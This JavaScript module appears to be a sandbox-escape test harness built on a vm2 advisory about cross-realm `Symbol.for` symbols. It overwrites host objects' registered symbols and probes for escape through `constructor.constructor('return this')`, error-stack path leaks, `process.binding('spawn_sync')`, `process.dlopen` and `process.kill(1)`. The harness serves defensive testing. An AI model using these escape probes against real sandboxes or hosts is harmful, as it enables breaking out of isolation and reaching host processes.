// CVE-2026-43997 (GHSA-47x8-96vw-5wg6), vm2: a symbol of `Symbol.for` is the same in all realms; with it an app reads, or puts, what the host
// looks for on its own objects.
const keys = [
  "nodejs.util.inspect.custom", "nodejs.util.promisify.custom", "nodejs.rejection", "nodejs.dispose",
  "nodejs.asyncDispose", "Deno.customInspect", "Deno.internal", "Deno.privateCustomInspect", "nodejs.stream.destroyed",
  "nodejs.webstream.isClosedPromise", "undici.globalDispatcher.1", "[[webidl.brand]]", "bootstrap", "native",
];
const attacks = {
  "read and written on what is the host's": {
    ends: ["ok"],
    times: 10,
    run() {
      const got = [];
      const objects = [
        globalThis, process, console, console.log, crypto, crypto.subtle, performance, navigator, fetch, Response,
        Response.prototype, Headers.prototype, ReadableStream.prototype, Buffer, Object.prototype, Function.prototype,
        Promise, Error,
      ];
      const places = objects.flatMap((object) =>
        [...keys.map((key) => Symbol.for(key)), ...Object.getOwnPropertySymbols(object)].map((key) => [object, key]),
      );
      if (places.some(([object, key]) => Object.getOwnPropertyDescriptor(object, key)?.value?.left === true))
        return "the render before left a value";
      for (const [object, key] of places) {
        try {
          got.push(object[key]);
          object[key] = Object.assign((...values) => void got.push(...values), { left: true });
        } catch (error) {
          got.push(error);
        }
      }
      console.log(new Headers(), new Response("x"), process, crypto);
      for (const symbol of Object.getOwnPropertySymbols(Symbol)) got.push(Symbol[symbol]);
      return probe(...got);
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
